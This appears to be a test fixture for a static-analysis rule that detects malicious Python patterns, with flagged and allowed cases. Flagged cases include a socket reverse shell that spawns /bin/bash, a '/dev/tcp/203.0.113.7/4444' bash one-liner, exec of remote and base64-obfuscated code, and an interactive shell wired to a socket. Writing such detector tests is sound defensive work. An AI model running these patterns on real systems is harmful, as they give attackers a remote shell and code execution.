import base64
import json
import os
import pty
import socket
import subprocess
import zlib
from base64 import b64decode as unpack

import requests


def bad_exec_base64():
    # ruleid: malicious-code-patterns
    exec(base64.b64decode("cHJpbnQoJ2hlbGxvJyk="))


def bad_eval_alias_decode():
    # ruleid: malicious-code-patterns
    return eval(unpack(b"MSArIDE=").decode("utf-8"))


def bad_exec_zlib_via_variable(blob):
    payload = zlib.decompress(base64.b64decode(blob))
    # ruleid: malicious-code-patterns
    exec(payload)


def bad_exec_compiled():
    code = compile(bytes.fromhex("7072696e74282768692729"), "<x>", "exec")
    # ruleid: malicious-code-patterns
    exec(code)


def bad_dunder_import():
    # ruleid: malicious-code-patterns
    exec(__import__("base64").b64decode("cHJpbnQoMSk="))


def bad_remote_exec():
    # ruleid: malicious-code-patterns
    exec(
        requests.get("https://example.com/install.py", timeout=10).text,
    )


def bad_reverse_shell(host, port):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.connect((host, port))
    # ruleid: malicious-code-patterns
    os.dup2(sock.fileno(), 0)
    os.dup2(sock.fileno(), 1)
    os.dup2(sock.fileno(), 2)
    pty.spawn("/bin/bash")


def bad_shell_one_liner():
    # ruleid: malicious-code-patterns
    os.system("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")


def bad_popen_wired(sock):
    # ruleid: malicious-code-patterns
    subprocess.Popen(["/bin/sh", "-i"], stdin=sock.fileno(), stdout=sock.fileno())


def ok_setup_version():
    version = {}
    # ok: malicious-code-patterns
    exec(open("mypkg/version.py").read(), version)
    return version


def ok_decode_data(blob):
    # ok: malicious-code-patterns
    data = json.loads(zlib.decompress(base64.b64decode(blob)))
    # ok: malicious-code-patterns
    return base64.b64decode(data["image"])


def ok_log_redirect(log_file):
    # ok: malicious-code-patterns
    os.dup2(log_file.fileno(), 1)


def ok_subprocess():
    # ok: malicious-code-patterns
    return subprocess.run(["bash", "-c", "echo hi"], check=True)


def ok_eval_literal():
    # ok: malicious-code-patterns
    return eval("1 + 1")


def bad_function_import(blob):
    from zlib import decompress as inflate

    # ruleid: malicious-code-patterns
    exec(inflate(blob))
